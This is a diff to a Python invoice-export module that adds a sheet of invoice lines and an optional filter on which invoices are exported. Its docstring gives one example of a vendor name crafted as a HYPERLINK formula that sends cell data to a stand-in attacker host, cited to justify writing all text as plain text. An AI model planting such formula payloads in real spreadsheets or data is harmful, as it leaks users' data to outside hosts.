@@ -1,4 +1,4 @@
-"""The consolidated workbook: every invoice, the overdue ones, and the aging per currency.
+"""The consolidated workbook: every invoice, the overdue ones, the aging per currency, the lines.
 
 * Invoices: one typed row per invoice (dates as dates, amounts as numbers with a number
   format), autofilter, frozen header row. Its headers are words the import understands, so
@@ -6,6 +6,8 @@
 * Overdue: open invoices past their due date, oldest first, with days overdue and balance.
 * Aging: open balances per currency in the buckets current / 1-30 / 31-60 / 61-90 / 90+ days
   past due, with a bar chart.
+* Lines: every invoice line read (position, item, quantity, unit, price, net, tax), under its
+  invoice's counterparty and number.
 
 Every text is written as text, never as a formula: names and numbers come from senders, and a
 vendor called ``=HYPERLINK("https://evil.example/?"&A1,"Open invoice")`` must not become a live
@@ -37,6 +39,7 @@ from sqlalchemy import select
 
 from db.models import Invoice, InvoiceStatus
 from db.session import session_scope
+from tasks.einvoice.records import invoice_lines
 from tasks.errors import WorkbookError
 from tasks.invoices.overview import AGING_BUCKETS, bucket_for_days, open_balance
 
@@ -156,15 +159,42 @@ def _aging(sheet: Any, invoices: list[Any], today: date) -> list[str]:
     return currencies
 
 
+# The invoice's columns are named so that importing the export never reads a line as an invoice.
+LINE_COLUMNS: list[tuple[str, str]] = [
+    ("Issuer", "counterparty"), ("Line of invoice", "number"), ("Position", "position"), ("Item", "description"),
+    ("Quantity", "quantity"), ("Unit", "unit"), ("Unit price", "unit_price"), ("Line net amount", "net_amount"),
+    ("Tax category", "tax_category"), ("Tax rate %", "tax_rate"),
+]
+
+
+def _lines(sheet: Any, lines: list[Any], invoices: dict[int, Any]) -> None:
+    """Every invoice line, under its invoice's counterparty and number (amounts as numbers)."""
+    _header(sheet, [h for h, _ in LINE_COLUMNS])
+    for line in lines:
+        invoice = invoices.get(line.invoice_id)
+        values = {"counterparty": invoice.counterparty if invoice else None, "number": invoice.number if invoice else None}
+        _append(sheet, [values[f] if f in values else _cell(line, f) for _, f in LINE_COLUMNS])
+    for index, (_, field) in enumerate(LINE_COLUMNS, start=1):
+        sheet.column_dimensions[get_column_letter(index)].width = {"counterparty": 32, "description": 40}.get(field, 13)
+        if field in ("unit_price", "net_amount"):
+            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
+                cell.number_format = MONEY_FORMAT
+    sheet.freeze_panes = "A2"
+
+
 def export_workbook(
-    path: str | Path, today: date | None = None, session_factory: Callable[[], Any] = session_scope
+    path: str | Path, today: date | None = None, session_factory: Callable[[], Any] = session_scope,
+    where: Any = None,
 ) -> ExportResult:
-    """Write the consolidated workbook to ``path`` (atomically: a half-written file never appears)."""
+    """Write the consolidated workbook to ``path`` (atomically: a half-written file never appears);
+    ``where`` (a condition on invoices, such as a view of the desk's list) exports only those."""
     target = Path(path)
     today = today or datetime.now().date()
+    chosen = select(Invoice) if where is None else select(Invoice).where(where)
     with session_factory() as session:
-        invoices = list(session.scalars(select(Invoice).order_by(Invoice.direction, Invoice.counterparty_key,
-                                                                 Invoice.number)))
+        invoices = list(session.scalars(chosen.order_by(Invoice.direction, Invoice.counterparty_key,
+                                                        Invoice.number)))
+        lines = invoice_lines(session, [i.id for i in invoices] if where is not None else None)
         session.expunge_all()
     overdue = sorted(
         (i for i in invoices if i.status in OPEN_STATUSES and i.due_date and i.due_date < today),
@@ -177,6 +207,7 @@ def export_workbook(
     _typed_rows(book.create_sheet("Overdue"), overdue,
                 lambda i: [(today - i.due_date).days, float(open_balance(i))])
     currencies = _aging(book.create_sheet("Aging"), invoices, today)
+    _lines(book.create_sheet("Lines"), lines, {i.id: i for i in invoices})
     try:
         target.parent.mkdir(parents=True, exist_ok=True)
         handle, temporary = tempfile.mkstemp(prefix=".export-", suffix=".xlsx", dir=target.parent)
